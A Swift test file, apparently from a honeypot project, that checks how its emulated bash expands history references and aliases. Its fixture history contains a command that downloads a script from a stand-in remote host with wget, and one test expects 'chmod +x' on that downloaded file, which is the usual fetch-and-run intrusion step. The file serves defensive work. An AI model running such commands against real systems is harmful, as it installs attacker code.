import Testing

@testable import Honeypots

@Suite("What bash makes of a typed line before it reads it")
struct LineExpansionTests {
    static let history: [ByteString] = ["ls -la /tmp", "wget http://192.0.2.1/a.sh -O /tmp/a.sh", "echo one two"]

    @Test(
        "History",
        arguments: [
            ("!!", "echo one two"), ("sudo !!", "sudo echo one two"), ("cat !$", "cat two"), ("!ls", "ls -la /tmp"),
            ("!1", "ls -la /tmp"), ("!-2", "wget http://192.0.2.1/a.sh -O /tmp/a.sh"), ("!wget:$", "/tmp/a.sh"),
            ("!!:1", "one"), ("!*", "one two"), ("^one^1^", "echo 1 two"), ("!!:s/two/2/", "echo one 2"),
            ("!?a.sh?:2-3", "-O /tmp/a.sh"), ("chmod +x !wget:$", "chmod +x /tmp/a.sh"),
        ] as [(String, String)])
    func history(_ line: String, _ expanded: String) {
        #expect(HistoryExpansion.expand(Array(line.utf8), Self.history) == .line(Array(expanded.utf8)))
    }

    @Test(
        "What stays as it was typed",
        arguments: [
            "echo hi!", "echo '!!'", "[ ! -f x ]", "echo \\!!", "if ! true; then :; fi", "echo \"hi!\"", "echo $!",
            "echo ${!x}", "[[ a != b ]]", "ls [!a]*",
        ])
    func same(_ line: String) {
        #expect(HistoryExpansion.expand(Array(line.utf8), Self.history) == .same)
    }

    @Test("What was never typed is not found")
    func missing() {
        #expect(
            HistoryExpansion.expand(Array("!nosuch x".utf8), Self.history) == .failed("!nosuch: event not found"))
        #expect(HistoryExpansion.expand(Array("!!".utf8), []) == .failed("!!: event not found"))
    }

    @Test(
        "Aliases",
        arguments: [
            ("ll /tmp", "ls --color -l /tmp"), ("cd / && ll", "cd / && ls --color -l"), ("echo ll", "echo ll"),
            ("ls", "ls --color"), ("\\ls", "\\ls"), ("'ll'", "'ll'"), ("x=1 ll", "x=1 ls --color -l"),
            ("if true; then ll; fi", "if true; then ls --color -l; fi"), ("ll|wc", "ls --color -l|wc"),
        ] as [(String, String)])
    func aliases(_ line: String, _ expanded: String) {
        let aliases: [ByteString: ByteString] = ["ls": "ls --color", "ll": "ls -l"]
        let result = AliasExpansion.expand(Array(line.utf8), aliases)
        #expect(String(decoding: result, as: UTF8.self) == expanded)
    }
}
